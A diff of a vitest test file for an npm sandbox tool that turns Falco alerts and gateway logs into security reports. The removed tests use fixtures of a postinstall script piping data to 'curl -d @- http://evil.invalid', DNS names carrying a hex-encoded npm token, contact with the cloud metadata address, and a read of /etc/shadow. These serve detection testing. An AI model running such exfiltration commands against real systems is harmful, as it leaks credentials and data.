@@ -1,34 +1,21 @@
 import { describe, expect, it } from 'vitest';
 import type { Evidence } from '../../src/report/build.js';
 import { buildReport } from '../../src/report/build.js';
-import { Contacts } from '../../src/report/contacts.js';
 import { reportSchema } from '../../src/report/report.js';
-import { alertAt, evidence, folded, NPM, PROJECT, pkg, treeOf } from './evidence.js';
+import { alertAt, evidence, folded, NPM, PROJECT, pkg, REFUSED, treeOf } from './evidence.js';
 
 const shadow = folded(
   alertAt(3, 'Read of the password database', { 'proc.pid': '20', 'fd.name': '/etc/shadow' }, 'CRITICAL'),
 );
 const shell = folded(alertAt(3, 'Shell started', { 'proc.pid': '20' }, 'NOTICE'));
-const refused = {
-  host: 'x.invalid',
-  port: null,
-  via: 'dns',
-  allowed: false,
-  count: 2,
-  first: 1,
-  last: 2,
-  bytesSent: 0,
-  bytesReceived: 0,
-  clientPorts: [],
-} as const;
 
 const rows: readonly [string, Partial<Evidence>, string][] = [
   ['nothing happened', {}, 'clean'],
   ['an alert at the threshold', { alerts: [shadow] }, 'findings'],
   ['an alert below the threshold', { alerts: [shell] }, 'clean'],
   ['the threshold lowered', { alerts: [shell], failOn: 'NOTICE' }, 'findings'],
-  ['a host name refused by the gateway', { egress: [refused] }, 'findings'],
-  ['a host name that was allowed', { egress: [{ ...refused, allowed: true }] }, 'clean'],
+  ['a host name refused by the gateway', { egress: [REFUSED] }, 'findings'],
+  ['a host name that was allowed', { egress: [{ ...REFUSED, allowed: true }] }, 'clean'],
   ['the sensor lost', { incomplete: [{ code: 'sensor-lost', message: '' }] }, 'incomplete'],
   [
     'the sensor lost after an alert',
@@ -144,232 +131,5 @@ describe('the processes of a report', () => {
     expect(report.processes?.rows).toHaveLength(200);
     expect(report.processes?.rows.map(({ pid }) => pid)).toContain(last);
     expect(JSON.stringify(report.processes).length).toBeLessThan(200_000);
-  });
-});
-
-describe('egress is attributed to the process that asked', () => {
-  const packages = [pkg('.', ['a']), pkg('node_modules/a', [], ['postinstall'])];
-  const tree = treeOf([...NPM, [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js']]);
-  const asked = (rule: string, fields: Record<string, string>) => {
-    const contacts = new Contacts();
-    contacts.add(alertAt(3, rule, { 'proc.pid': '20', ...fields }, 'DEBUG'));
-    return contacts;
-  };
-
-  it.each([
-    [
-      'a DNS question, as Falco renders its bytes',
-      'exfil.attacker.invalid',
-      'E............exfil.attacker.invalid.....',
-      'a',
-    ],
-    ['a DNS question of another case', 'x.invalid', 'E............X.InvaliD.....', 'a'],
-    [
-      'a long label, whose length byte is printable',
-      `${'d'.repeat(40)}.invalid`,
-      `E............(${'d'.repeat(40)}.invalid.`,
-      'a',
-    ],
-    ['another name', 'y.invalid', 'E............x.invalid.....', undefined],
-    ['a name that only ends alike', 'x.invalid', 'E............max.invalid.....', undefined],
-  ])('%s', (_title, host, data, name) => {
-    const contacts = asked('Packwarden name lookup', { 'evt.arg.data': data });
-    const report = buildReport(evidence({ packages, tree, contacts, egress: [{ ...refused, host }] }));
-    expect(report.findings[0]?.package?.name).toBe(name);
-    expect(report.egress[0]?.package?.name).toBe(name);
-  });
-
-  it.each([
-    [40_000, 'a'],
-    [40_001, undefined],
-  ])('a proxy request from port %i', (port, name) => {
-    const contacts = asked('Packwarden proxy connection', { 'fd.name': '172.18.0.2:40000->172.18.0.1:3128' });
-    const record = { ...refused, via: 'proxy', port: 443, clientPorts: [port] } as const;
-    const report = buildReport(evidence({ packages, tree, contacts, egress: [record] }));
-    expect(report.findings[0]?.package?.name).toBe(name);
-  });
-});
-
-const leak = {
-  secret: 'npm token',
-  host: 'evil.invalid',
-  port: null,
-  via: 'dns',
-  where: 'name',
-  encoding: 'hex',
-  count: 3,
-  first: 1_795_226_323_000,
-  last: 1_795_226_324_000,
-  asked: '6e706d5f.evil.invalid',
-  clientPorts: [],
-} as const;
-const dataNames = {
-  parent: 'evil.invalid',
-  via: 'dns',
-  example: '6e706d5f.evil.invalid',
-  names: 30,
-  payload: 900,
-  severity: 'certain',
-  first: 1_795_226_323_000,
-  last: 1_795_226_324_000,
-  clientPorts: [],
-} as const;
-const packages = [
-  pkg('.', ['a', 'b']),
-  pkg('node_modules/a', [], ['postinstall']),
-  pkg('node_modules/b', [], ['postinstall']),
-];
-const tree = treeOf([
-  ...NPM,
-  [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js'],
-  [2, 30, 10, `${PROJECT}/node_modules/b`, 'curl -d @- http://evil.invalid'],
-]);
-
-describe('what the gateway saw', () => {
-  it('a decoy on its way out is critical, and names decoy, host and package', () => {
-    const contacts = new Contacts();
-    contacts.add(
-      alertAt(3, 'Packwarden name lookup', {
-        'proc.pid': '20',
-        'evt.arg.data': 'x............6e706d5f.evil.invalid....',
-      }),
-    );
-    const report = buildReport(evidence({ packages, tree, contacts, leaks: [leak] }));
-    expect(report.findings).toEqual([
-      expect.objectContaining({ rule: 'Decoy left the sandbox', priority: 'CRITICAL', decoy: 'npm token', count: 3 }),
-    ]);
-    expect(report.findings[0]?.package?.name).toBe('a');
-    expect(report.findings[0]?.alert.output).toContain('decoy npm token left the sandbox towards host evil.invalid');
-    expect(reportSchema.parse(report)).toEqual(report);
-  });
-
-  it('is a finding although the policy let it through', () => {
-    const row = { ...refused, allowed: true, via: 'proxy' } as const;
-    const report = buildReport(evidence({ egress: [row], leaks: [{ ...leak, via: 'proxy', where: 'body' }] }));
-    expect(report.verdict).toBe('findings');
-  });
-
-  it.each([
-    ['certain', 'CRITICAL'],
-    ['likely', 'WARNING'],
-  ] as const)('names that carry data, %s: %s', (severity, priority) => {
-    const report = buildReport(evidence({ dataNames: [{ ...dataNames, severity }] }));
-    expect(report.findings).toEqual([
-      expect.objectContaining({ rule: 'Data in host names', priority, count: 30, package: null }),
-    ]);
-    expect(report.findings[0]?.alert.output_fields).toMatchObject({
-      'egress.target': 'evil.invalid',
-      'egress.names': '30',
-      'egress.example': '6e706d5f.evil.invalid',
-    });
-  });
-
-  it('the metadata address by the proxy is as bad as a direct contact', () => {
-    const report = buildReport(evidence({ egress: [{ ...refused, host: '169.254.169.254', via: 'proxy', port: 80 }] }));
-    expect(report.findings).toEqual([
-      expect.objectContaining({ rule: 'Contact with the cloud metadata service', priority: 'CRITICAL' }),
-    ]);
-  });
-
-  it('one host asked for by two packages is two findings', () => {
-    const contacts = new Contacts();
-    for (const [pid, port] of [
-      ['20', 40_000],
-      ['30', 40_001],
-    ]) {
-      contacts.add(
-        alertAt(3, 'Packwarden proxy connection', {
-          'proc.pid': `${pid}`,
-          'fd.name': `172.18.0.2:${port}->172.18.0.1:3128`,
-        }),
-      );
-    }
-    const row = { ...refused, via: 'proxy', port: 80, clientPorts: [40_000, 40_001] } as const;
-    const report = buildReport(evidence({ packages, tree, contacts, egress: [row] }));
-    expect(report.findings.map(({ package: by, count }) => [by?.name, count])).toEqual([
-      ['a', 1],
-      ['b', 1],
-    ]);
-  });
-});
-
-describe('the rows of egress', () => {
-  it('tell bytes, times, and the process', () => {
-    const contacts = new Contacts();
-    contacts.add(
-      alertAt(3, 'Packwarden proxy connection', { 'proc.pid': '30', 'fd.name': '172.18.0.2:40000->172.18.0.1:3128' }),
-    );
-    const row = {
-      ...refused,
-      allowed: true,
-      via: 'proxy',
-      port: 443,
-      clientPorts: [40_000],
-      bytesSent: 7,
-      bytesReceived: 9,
-    } as const;
-    const report = buildReport(evidence({ packages, tree, contacts, egress: [row] }));
-    expect(report.egressMode).toBe('registry');
-    expect(report.egress).toEqual([
-      expect.objectContaining({
-        bytesSent: 7,
-        bytesReceived: 9,
-        first: '1970-01-01T00:00:00.001Z',
-        last: '1970-01-01T00:00:00.002Z',
-        process: expect.objectContaining({ pid: 30, cmdline: 'curl -d @- http://evil.invalid' }),
-      }),
-    ]);
-  });
-
-  it("what went to another job's gateway is a direct attempt, what went to the own one is none", () => {
-    const contacts = new Contacts();
-    const contact = (port: number, peer: string, rule = 'Packwarden proxy connection') =>
-      contacts.add(alertAt(port / 1000 - 37, rule, { 'proc.pid': '20', 'fd.name': `172.18.0.2:${port}->${peer}` }));
-    contact(40_000, '172.18.0.1:3128');
-    contact(40_001, '172.19.0.1:3128');
-    contact(40_002, '172.19.0.1:3128');
-    contact(40_003, '172.19.0.1:53', 'Packwarden name lookup');
-    contact(40_004, '127.0.0.11:53', 'Packwarden name lookup');
-    const report = buildReport(evidence({ packages, tree, contacts, gateway: '172.18.0.1' }));
-    expect(report.findings).toHaveLength(2);
-    expect(report.findings[0]).toMatchObject({
-      rule: 'Outbound connection past the gateway',
-      package: { name: 'a' },
-      priority: 'WARNING',
-    });
-    const rows = report.egress.map(({ host, port, via, allowed, count }) => ({ host, port, via, allowed, count }));
-    expect(rows).toEqual(
-      expect.arrayContaining([
-        { host: '172.19.0.1', port: 3128, via: 'direct', allowed: false, count: 2 },
-        { host: '172.19.0.1', port: 53, via: 'direct', allowed: false, count: 1 },
-      ]),
-    );
-  });
-
-  it('a direct attempt is a row, and one finding', () => {
-    const to = { 'proc.pid': '20', 'fd.sip': '203.0.113.9', 'fd.sport': '4444' };
-    const direct = [
-      folded(alertAt(3, 'Outbound connection past the gateway', to), 2),
-      folded(alertAt(5, 'Outbound connection past the gateway', { ...to, 'proc.pid': '30' })),
-      folded(
-        alertAt(6, 'Outbound connection past the gateway', { ...to, 'fd.sip': '169.254.169.254', 'fd.sport': '80' }),
-      ),
-      folded(
-        alertAt(
-          6,
-          'Contact with the cloud metadata service',
-          { ...to, 'fd.sip': '169.254.169.254', 'fd.sport': '80' },
-          'CRITICAL',
-        ),
-      ),
-    ];
-    const report = buildReport(evidence({ packages, tree, alerts: direct }));
-    expect(report.findings).toHaveLength(4);
-    expect(report.egress).toEqual([
-      expect.objectContaining({ host: '203.0.113.9', port: 4444, via: 'direct', allowed: false, count: 3 }),
-      expect.objectContaining({ host: '169.254.169.254', port: 80, via: 'direct', count: 1 }),
-    ]);
-    expect(report.egress[0]).toMatchObject({ package: { name: 'a' }, process: { pid: 20 } });
-    expect(reportSchema.parse(report)).toEqual(report);
   });
 });
